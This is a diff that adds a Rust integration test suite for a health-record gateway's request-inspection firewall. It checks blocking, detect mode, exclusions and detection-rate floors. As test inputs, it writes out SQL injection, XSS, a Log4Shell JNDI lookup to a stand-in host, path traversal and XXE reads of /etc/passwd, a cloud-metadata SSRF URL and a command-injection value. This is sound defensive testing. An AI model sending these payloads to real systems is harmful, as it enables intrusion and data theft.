@@ -1,0 +1,335 @@
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design
+//! Input inspection through the real gateway (R-WAF-1): attacks in the query, headers, cookies
+//! and bodies are refused before anything reaches the upstream, whatever their encoding; a
+//! FHIR resource with a narrative and Japanese text passes untouched; `detect` mode forwards
+//! and records; exclusions lift one class on one route; and the evaluation tool runs the
+//! shared corpora.
+
+mod support;
+
+use std::path::PathBuf;
+
+use rustls::version::TLS13;
+use support::*;
+
+const EXTRA: &str = r#"
+[[routes]]
+id = "records"
+methods = ["GET", "POST", "PUT"]
+path = "/records/{*rest}"
+upstream = "backend"
+category = "public"
+anonymous = true
+
+[[routes]]
+id = "watched"
+methods = ["GET", "POST"]
+path = "/watched/{*rest}"
+upstream = "backend"
+category = "public"
+anonymous = true
+inspect = "detect"
+
+[[routes]]
+id = "search"
+methods = ["GET"]
+path = "/search/{*rest}"
+upstream = "backend"
+category = "public"
+anonymous = true
+inspect_exclude = ["sqli"]
+"#;
+
+struct Setup {
+    dir: tempfile::TempDir,
+    pki: TestPki,
+    upstream: Upstream,
+    gateway: Gateway,
+}
+
+async fn setup() -> Setup {
+    let dir = tempfile::tempdir().unwrap();
+    let pki = TestPki::new(dir.path(), "server");
+    let upstream = Upstream::start().await;
+    let port = free_port();
+    let gateway = Gateway::start(
+        dir.path(),
+        &policy(&pki, port, upstream.port, "", EXTRA),
+        port,
+    );
+    Setup {
+        dir,
+        pki,
+        upstream,
+        gateway,
+    }
+}
+
+impl Setup {
+    async fn send(&self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
+        let config = client_config(&self.pki.ca_der, &[&TLS13], &[b"http/1.1"]);
+        let mut client = Client::open(self.gateway.port, config).await.unwrap();
+        client.send(method, path, headers, body).await.unwrap()
+    }
+
+    fn record(&self, reply: &Reply) -> serde_json::Value {
+        let id = reply.headers["x-request-id"].to_str().unwrap();
+        // Records are written before the answer; the batch may still be in the writer's buffer
+        // for a moment on a slow machine.
+        for _ in 0..50 {
+            let records =
+                phr_gateway::audit::segment::read_records(&self.dir.path().join("audit/access"))
+                    .unwrap();
+            if let Some(r) = records.into_iter().find(|r| r["request_id"] == id) {
+                return r;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(100));
+        }
+        panic!("no record for {id}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn attacks_are_refused_before_the_upstream_in_every_place_r_waf_1() {
+    let s = setup().await;
+    let json = ("content-type", "application/fhir+json");
+    // (method, path, headers, body)
+    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a str);
+    let cases: &[Case<'_>] = &[
+        ("GET", "/records/x?q=1%27%20OR%20%271%27%3D%271", &[], ""),
+        // Twice percent-encoded, and full-width: folded to what a backend sees.
+        (
+            "GET",
+            "/records/x?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+            &[],
+            "",
+        ),
+        (
+            "GET",
+            "/records/x?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
+            &[],
+            "",
+        ),
+        (
+            "GET",
+            "/records/x",
+            &[("user-agent", "${${lower:j}ndi:ldap://e.example/a}")],
+            "",
+        ),
+        (
+            "GET",
+            "/records/x",
+            &[("cookie", "theme=../../../../etc/passwd")],
+            "",
+        ),
+        (
+            "GET",
+            "/records/x?url=http://169.254.169.254/latest/meta-data/",
+            &[],
+            "",
+        ),
+        (
+            "POST",
+            "/records/x",
+            &[json],
+            r#"{"note":"<img src=x onerror=alert(1)>"}"#,
+        ),
+        (
+            "POST",
+            "/records/x",
+            &[json],
+            r#"{"filter":{"$where":"this.a == 1"}}"#,
+        ),
+        (
+            "POST",
+            "/records/x",
+            &[("content-type", "application/x-www-form-urlencoded")],
+            "cmd=%3B%20cat%20notes.txt",
+        ),
+        (
+            "POST",
+            "/records/x",
+            &[("content-type", "application/xml")],
+            r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
+        ),
+    ];
+    for (method, path, headers, body) in cases {
+        let reply = s.send(method, path, headers, body).await;
+        assert_eq!(
+            reply.status, 403,
+            "{method} {path} {headers:?} {body}: {reply:?}"
+        );
+        assert_eq!(reply.json()["reason"], "inspect.blocked");
+        let record = s.record(&reply);
+        assert_eq!(record["reason"], "inspect.blocked");
+        assert!(
+            !record["rules"].as_array().unwrap().is_empty(),
+            "the record names the rule: {record}"
+        );
+    }
+    assert!(
+        s.upstream.requests().is_empty(),
+        "an attack reached the upstream"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_fhir_resource_with_a_narrative_and_japanese_text_passes_untouched() {
+    let s = setup().await;
+    let resource = serde_json::json!({
+        "resourceType": "MedicationRequest",
+        "text": {"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>ロキソプロフェン 60mg 1日3回 毎食後</p><table><tr><td>7日分</td></tr></table></div>"},
+        "note": [{"text": "胃の不快感があれば中止; 医師に相談してください (O'Brien 先生)"}],
+        "dosageInstruction": [{"text": "１回１錠　１日３回"}],
+        "subject": {"reference": "Patient/p-001"}
+    })
+    .to_string();
+    let reply = s
+        .send(
+            "PUT",
+            "/records/MedicationRequest/m-1",
+            &[("content-type", "application/fhir+json; charset=utf-8")],
+            &resource,
+        )
+        .await;
+    assert_eq!(reply.status, 200, "{reply:?}");
+    assert_eq!(
+        reply.body,
+        format!(
+            "upstream-ok /records/MedicationRequest/m-1 {}",
+            resource.len()
+        )
+    );
+    // The same narrative with a script in it is refused.
+    let hostile = resource.replace("<table>", "<script>alert(1)</script><table>");
+    let reply = s
+        .send(
+            "PUT",
+            "/records/MedicationRequest/m-1",
+            &[("content-type", "application/fhir+json")],
+            &hostile,
+        )
+        .await;
+    assert_eq!(reply.json()["reason"], "inspect.blocked");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn detect_mode_forwards_and_records_and_exclusions_lift_one_class() {
+    let s = setup().await;
+    let reply = s
+        .send(
+            "GET",
+            "/watched/x?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            &[],
+            "",
+        )
+        .await;
+    assert_eq!(reply.status, 200);
+    let record = s.record(&reply);
+    assert_eq!(record["decision"], "allow");
+    assert!(
+        record["rules"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|r| r.as_str().unwrap().starts_with("xss-")),
+        "{record}"
+    );
+    // On /search SQL-looking text is allowed (excluded), other classes are not.
+    let sql = s
+        .send(
+            "GET",
+            "/search/x?q=1%20union%20select%20name%20from%20t",
+            &[],
+            "",
+        )
+        .await;
+    assert_eq!(sql.status, 200, "{sql:?}");
+    let xss = s.send("GET", "/search/x?q=%3Cscript%3E", &[], "").await;
+    assert_eq!(xss.json()["reason"], "inspect.blocked");
+    // A body the gateway reads whole is bounded.
+    let big = format!("{{\"note\": \"{}\"}}", "a".repeat(70 * 1024));
+    let reply = s
+        .send(
+            "POST",
+            "/records/x",
+            &[("content-type", "application/json")],
+            &big,
+        )
+        .await;
+    assert_eq!(reply.status, 413);
+    assert_eq!(reply.json()["reason"], "protocol.body_too_large");
+}
+
+#[test]
+fn exclusions_name_known_rules_or_classes() {
+    let dir = tempfile::tempdir().unwrap();
+    let pki = TestPki::new(dir.path(), "server");
+    let bad = "inspect_exclude = [\"sqli-999\"]";
+    let extra = format!(
+        "\n[[routes]]\nid = \"r\"\nmethods = [\"GET\"]\npath = \"/r\"\nupstream = \"backend\"\ncategory = \"public\"\nanonymous = true\n{bad}\n"
+    );
+    let text = policy(&pki, 8443, 8081, "", &extra);
+    let line = text.lines().position(|l| l == bad).unwrap() + 1;
+    assert_policy_error(
+        dir.path(),
+        &text,
+        line,
+        "`sqli-999` is not an inspection rule id",
+    );
+}
+
+fn corpus(name: &str) -> Option<PathBuf> {
+    let shared = std::env::var_os("PHR_SHARED")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared"));
+    let path = shared.join("corpora/waf").join(name);
+    if path.exists() {
+        Some(path)
+    } else {
+        eprintln!("skipped: corpus not found at {}", path.display());
+        None
+    }
+}
+
+/// The measured floors on the shared corpora (docs/inspect.md): a change that lowers one fails
+/// here. Not the issue's goals, which are not all met yet.
+#[test]
+fn the_evaluation_tool_meets_the_measured_floors_on_the_shared_corpora() {
+    let (Some(crs), Some(libinjection), Some(fhir)) = (
+        corpus("crs.jsonl"),
+        corpus("libinjection.jsonl"),
+        corpus("fhir-benign.jsonl"),
+    ) else {
+        return;
+    };
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_phr-gateway"))
+        .args(["inspect", "eval", "--format", "json"])
+        .args([&fhir, &libinjection, &crs])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let rate = |class: &str| {
+        let c = &report["classes"][class];
+        let tp = c["tp"].as_f64().unwrap();
+        tp / (tp + c["fn"].as_f64().unwrap())
+    };
+    assert!(rate("sqli") >= 0.96, "{}", report["classes"]["sqli"]);
+    assert!(rate("xss") >= 0.93, "{}", report["classes"]["xss"]);
+    assert!(rate("jndi") >= 0.80, "{}", report["classes"]["jndi"]);
+
+    // Zero false positives on the FHIR benign set: a PHR gateway must pass a patient's record.
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_phr-gateway"))
+        .args(["inspect", "eval", "--format", "json"])
+        .arg(&fhir)
+        .output()
+        .unwrap();
+    let fhir_report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(fhir_report["total"]["fp"], 0, "{fhir_report}");
+    assert!(fhir_report["total"]["tn"].as_u64().unwrap() >= 900);
+}
